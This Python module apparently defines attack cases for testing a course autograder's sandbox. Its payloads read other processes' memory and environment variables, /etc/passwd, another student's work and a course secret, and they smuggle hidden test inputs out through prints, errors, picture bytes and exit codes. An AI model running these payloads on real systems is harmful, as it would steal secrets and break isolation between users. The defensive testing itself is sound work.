"""Class B: reading what no student may read, and getting it to where a student can see it."""

from __future__ import annotations

import base64
import binascii
import re
import socket

from .case import Attack, Outcome, learns, shows

_CWD = """from pathlib import Path
for path in Path(".").rglob("*"):
    if path.is_file():
        print(path.read_text(errors="replace"))"""

_HISTORY = """for text in [*In, *_ih, *[str(vars(cell)) for cell in get_ipython().history_manager.input_hist_raw if 0]]:
    print(text)"""

_GARBAGE = """import gc
for thing in gc.get_objects():
    if type(thing) in (dict, list, tuple) and len(thing) < 200:
        for text in thing.values() if type(thing) is dict else thing:
            if type(text) is str and "HIDDEN " + "TESTS" in text and "needle" not in text:
                print(text[:3000])"""

_MEMORY = """import re
needle = ("BEGIN " + "HIDDEN").encode()
def scan(pid):
    found = 0
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
        for line in maps:
            place, rights = line.split()[:2]
            start, end = (int(part, 16) for part in place.split("-"))
            if "rw" not in rights or end - start > 1 << 28:
                continue
            try:
                memory.seek(start)
                content = memory.read(end - start)
            except (OSError, ValueError):
                continue
            for hit in re.finditer(re.escape(needle), content):
                if found < 40:
                    print(content[hit.start() - 300 : hit.start() + 900])
                found += 1
"""

_OTHERS = (
    _MEMORY
    + """import os
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    if int(pid) == os.getpid():
        continue
    try:
        scan(pid)
        print(open(f"/proc/{pid}/environ", "rb").read())
    except OSError:
        pass"""
)

_WALK = """import os
from pathlib import Path
places = [Path(".").resolve(), *Path(".").resolve().parents[:4], *Path("/tmp").glob("*"), *Path("/var/tmp").glob("*")]
for link in Path("/proc").glob("[0-9]*/cwd"):
    try:
        places.append(link.resolve())
    except OSError:
        pass
for place in places:
    for name in (@NAMES@):
        try:
            print(open(place / name, "rb").read(200_000).@FORM@)
        except OSError:
            pass"""

_ENVIRONMENT = """import os
print(dict(os.environ))
for pid in ("self", "1", os.getppid(), *[p for p in os.listdir("/proc") if p.isdigit()]):
    for name in ("environ", "cmdline"):
        try:
            print(open(f"/proc/{pid}/{name}", "rb").read())
        except OSError:
            pass"""

_KEEP = "seen = []\ndef label(word):\n    seen.append(word)\n    return word\n"

_PRINT = """import os, sys
for word in seen:
    print(word)
    print(word, file=sys.stderr)
    os.write(1, word.encode())"""

_RAISE = "raise ValueError(' '.join(seen))"

_NAME = "raise type('E' + '_'.join(seen), (Exception,), {})()"

_PICTURE = """import binascii, struct, zlib
from IPython.display import Image, display
def chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", binascii.crc32(kind + content))
head = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
text = chunk(b"tEXt", b"note\\0" + " ".join(seen).encode())
pixel = chunk(b"IDAT", zlib.compress(b"\\0\\0"))
display(Image(b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", head) + text + pixel + chunk(b"IEND", b"")))"""

_THREAD = """import threading, time, sys
seen = []
def tell():
    while True:
        for word in seen:
            print(word)
            sys.stdout.flush()
        time.sleep(0.02)
threading.Thread(target=tell, daemon=True).start()
def label(word):
    seen.append(word)
    time.sleep(0.2)
    return word"""

_DISPLAY = "def label(word):\n    print(word)\n    display(word)\n    raise ValueError(word)"

_FILES = """from pathlib import Path
import os
places = [Path(p) / f for p in (".", os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp") for f in ("left-a1.txt",)]
for path in places:
    if path.exists():
        print("LEFT" + "OVER")
for path in places:
    try:
        path.write_text("was here")
    except OSError:
        pass"""

_TELL = """import os, sys, platform, socket
from pathlib import Path
print(os.getcwd(), socket.gethostname(), sys.path, sys.argv, sys.executable)
for place in ("/proc/self/mountinfo", "/etc/passwd", "/etc/hostname", "/proc/1/cmdline", "/proc/self/cgroup"):
    try:
        print(Path(place).read_text(errors="replace"))
    except OSError:
        pass"""

_NETWORK = """import socket
def reach(family, kind, address):
    try:
        with socket.socket(family, kind) as ear, socket.socket(family, kind) as mouth:
            ear.bind(address)
            if kind == socket.SOCK_STREAM:
                ear.listen()
            mouth.settimeout(2)
            mouth.connect(ear.getsockname())
            mouth.send(b"x") if kind == socket.SOCK_DGRAM else None
            print("REACH" + "ED", family)
    except OSError as error:
        print(type(error).__name__)
"""

_NETLINK = """import socket
socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close()
print("REACH" + "ED")"""

_ABSTRACT = """import socket
for line in open("/proc/net/unix"):
    name = line.split()[-1]
    if name.startswith("@attack-ear-"):
        with socket.socket(socket.AF_UNIX) as mouth:
            mouth.connect("\\0" + name[1:])
            print("REACH" + "ED")"""

_ORACLE = """import numpy as np
def known(oracle):
    try:
        padded = oracle(np.ones((1, 2, 2, 1)), 1)
        return np.shape(padded) == (1, 4, 4, 1) and padded.sum() == 4
    except BaseException:
        return False
"""
_FIND = _ORACLE + "from helpers.checks import find\nif known(find('zero_pad').oracle):\n    print('ORA' + 'CLE')"
_COLLECT = (
    _ORACLE
    + """import gc
import helpers.checks
try:
    helpers.checks.zero_pad
except Exception:
    pass
for thing in gc.get_objects():
    if callable(getattr(type(thing), "__call__", None)) and known(getattr(thing, "oracle", None)):
        print("ORA" + "CLE")
        break"""
)
_SOURCES = """import sys
from pathlib import Path
for folder in {*sys.path, *(p for p in sys.path_importer_cache), "/opt"}:
    for path in Path(folder or ".").rglob("*.py") if "check" in str(list(Path(folder or ".").glob("helpers"))) or \\
            Path(folder or ".", "helpers").is_dir() else []:
        if "oracle" + "=" in path.read_text(errors="replace") and "helpers" in str(path):
            print("ORA" + "CLE", path)"""
_FINDER = """import sys
from pathlib import Path
for finder in [*sys.meta_path, *sys.modules.values()]:
    home = sys.modules.get(getattr(finder, "__module__", ""))
    for folder in dict(getattr(finder, "MAPPING", None) or getattr(home, "MAPPING", {})).values():
        for path in Path(folder).rglob("*.py"):
            if "oracle" + "=" in path.read_text(errors="replace"):
                print("ORA" + "CLE")"""


_CODE = """import os
def label(word):
    if word != "kernel":
        print("exit code", int(word[:2], 16))
        if os.getpid() < 9:
            os._exit(int(word[:2], 16))
    return 'LENREK'"""


def _in_exit_code(outcome: Outcome) -> bool:
    """The first byte of the hidden input is told as an exit code."""
    return f"exit code {int(outcome.secrets[2][:2], 16)}" in outcome.visible


def _in_pictures(outcome: Outcome) -> bool:
    """A secret stands in the bytes of a picture."""
    for text in re.findall(r"iVBORw0KGgo[A-Za-z0-9+/=\\n]*", outcome.visible):
        try:
            content = base64.b64decode(text.replace("\\n", ""))
        except (ValueError, binascii.Error):
            continue
        if any(secret.encode() in content for secret in outcome.secrets):
            return True
    return learns(outcome)


def _tells_of_us(outcome: Outcome) -> bool:
    """Names of this machine or of its folders."""
    host = socket.gethostname()
    names = ("/course/autograded", "/course/submitted", "root:x:", *([host] if len(host) > 5 else []))
    return any(name in outcome.visible for name in names)


def _walk(names: str, form: str = "decode(errors='replace')") -> str:
    return _WALK.replace("@NAMES@", names).replace("@FORM@", form)


def _reads(name: str, title: str, code: str) -> Attack:
    """Reads before any hidden input came, where what a cell prints is shown."""
    return Attack(name, title, learns, cells={"blend": code})


def _tells(name: str, title: str, cell: str, wins=learns) -> Attack:  # type: ignore[no-untyped-def]
    """Keeps hidden inputs and lets a later cell tell them."""
    return Attack(name, title, wins, cells={"label": _KEEP, "is_rising": cell}, after=(cell,))


ATTACKS = [
    _reads("B1a", "files of the working folder are read for hidden tests", _CWD),
    Attack("B1b", "the history of cells is read for hidden tests", learns, after=(_HISTORY,)),
    _reads("B2a", "all objects are searched for hidden tests", _GARBAGE),
    _reads("B2b", "the process's own memory is searched for hidden tests", _MEMORY + "scan('self')"),
    _reads("B2c", "memory and environment of other processes are searched", _OTHERS),
    Attack(
        "B2d",
        "memory is searched during a test, and the find told by an error",
        learns,
        cells={
            "label": _MEMORY.replace("print(", "finds.append(") + "finds = []\ndef label(word):\n    scan('self')\n"
            "    print(finds)\n    raise ValueError(str(finds))"
        },
    ),
    _reads(
        "B3a", "the instructor's notebook is read", _walk("'source/week0/toy.ipynb', 'course/source/week0/toy.ipynb'")
    ),
    _reads("B3b", "another student's work is read", _walk("'submitted/victim/week0/toy.ipynb',")),
    _reads("B3c", "the course's secret is read", _walk("'ledger/secret', 'course/ledger/secret'", "hex()")),
    _reads("B4", "environment and command lines are read for tokens", _ENVIRONMENT),
    Attack(
        "B5",
        "a test fails, and its traceback shows the hidden part",
        learns,
        cells={"blend": "def blend(a, b):\n    return 3 * a - 2 * b + (a.ndim - 1)"},
    ),
    _tells("B6a", "hidden inputs are printed in a later cell", _PRINT),
    _tells("B6b", "hidden inputs are the text of a later error", _RAISE),
    _tells("B6c", "hidden inputs are the name of a later error's class", _NAME),
    _tells("B6d", "hidden inputs are written into a picture", _PICTURE, _in_pictures),
    Attack("B6e", "a thread prints hidden inputs all the time", learns, cells={"label": _THREAD}),
    Attack(
        "B6f", "hidden inputs are printed, displayed and raised in the test itself", learns, cells={"label": _DISPLAY}
    ),
    Attack("B7", "a byte of a hidden input is an exit code", _in_exit_code, cells={"label": _CODE}, deserved=1.0),
    Attack(
        "B8a",
        "the network: TCP",
        shows("REACHED"),
        cells={"blend": _NETWORK + "reach(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', 0))"},
    ),
    Attack(
        "B8b",
        "the network: UDP",
        shows("REACHED"),
        cells={"blend": _NETWORK + "reach(socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', 0))"},
    ),
    Attack(
        "B8c",
        "the network: the kernel's own interface",
        shows("REACHED"),
        cells={"blend": _NETLINK},
    ),
    Attack("B8d", "the network: abstract sockets of this machine", shows("REACHED"), cells={"blend": _ABSTRACT}),
    Attack("B10", "names of the machine and of its folders", _tells_of_us, cells={"blend": _TELL}),
    Attack("B11", "files are left for the next one", shows("LEFTOVER"), cells={"blend": _FILES}, times=2),
    Attack("B12a", "the course's own right answers are called", shows("ORACLE"), cells={"blend": _FIND}),
    Attack(
        "B12b", "the course's own right answers are found among all objects", shows("ORACLE"), cells={"blend": _COLLECT}
    ),
    Attack("B12c", "the course's own right answers are read as source", shows("ORACLE"), cells={"blend": _SOURCES}),
    Attack("B12d", "the course's own right answers by the installer's map", shows("ORACLE"), cells={"blend": _FINDER}),
]
